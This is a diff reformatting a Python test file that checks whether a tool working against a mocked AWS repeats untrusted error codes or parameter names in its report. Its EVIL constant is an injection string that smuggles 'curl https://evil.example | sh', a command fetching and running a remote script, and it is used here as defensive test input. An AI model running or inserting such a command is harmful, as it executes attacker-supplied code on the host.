@@ -1,4 +1,6 @@
-"""What stands in the place of AWS says: nothing that has not the form of AWS's own words is repeated."""
+"""What stands in the place of AWS says: nothing that has not the form of AWS's own words is
+repeated.
+"""
 
 import json
 
@@ -20,9 +22,13 @@ EVIL = "no such thing; curl https://evil.example | sh"
     ],
 )
 @pytest.mark.parametrize("code", [EVIL, "k8s aws", "a" * 81, "<b>"])
-def test_a_code_that_is_none_is_not_repeated(world: World, capsys: pytest.CaptureFixture[str], service: str, action: str, code: str) -> None:
+def test_a_code_that_is_none_is_not_repeated(
+    world: World, capsys: pytest.CaptureFixture[str], service: str, action: str, code: str
+) -> None:
     world.add_cluster("prod", namespaces=("a",), embedded=True)
-    world.document("prod", f"{{namespaces: [a], roleArn: '{SPOKE_ROLE}', externalId: an-external-id}}")
+    world.document(
+        "prod", f"{{namespaces: [a], roleArn: '{SPOKE_ROLE}', externalId: an-external-id}}"
+    )
     world.aws.script(service, action, lambda request: Answer.refusal(request, code, "m"))
     report = world.invoke()
     said = json.dumps(report) + capsys.readouterr().out
@@ -31,9 +37,15 @@ def test_a_code_that_is_none_is_not_repeated(world: World, capsys: pytest.Captur
 
 
 @pytest.mark.parametrize("name", [EVIL, "/ecr-public-pusher/a\nb", "/ecr-public-pusher/ｄ"])
-def test_a_parameter_that_can_have_no_such_name_is_no_answer_of_parameter_store(world: World, name: str) -> None:
+def test_a_parameter_that_can_have_no_such_name_is_no_answer_of_parameter_store(
+    world: World, name: str
+) -> None:
     body = json.dumps({"Parameters": [{"Name": name, "Type": "String", "Value": "x"}]})
-    world.aws.script("ssm", "GetParametersByPath", Answer(200, body.encode(), {"Content-Type": "application/x-amz-json-1.1"}))
+    world.aws.script(
+        "ssm",
+        "GetParametersByPath",
+        Answer(200, body.encode(), {"Content-Type": "application/x-amz-json-1.1"}),
+    )
     report = world.invoke()
     assert report["error"]["type"] == "ConfigurationError"
     assert name not in json.dumps(report)
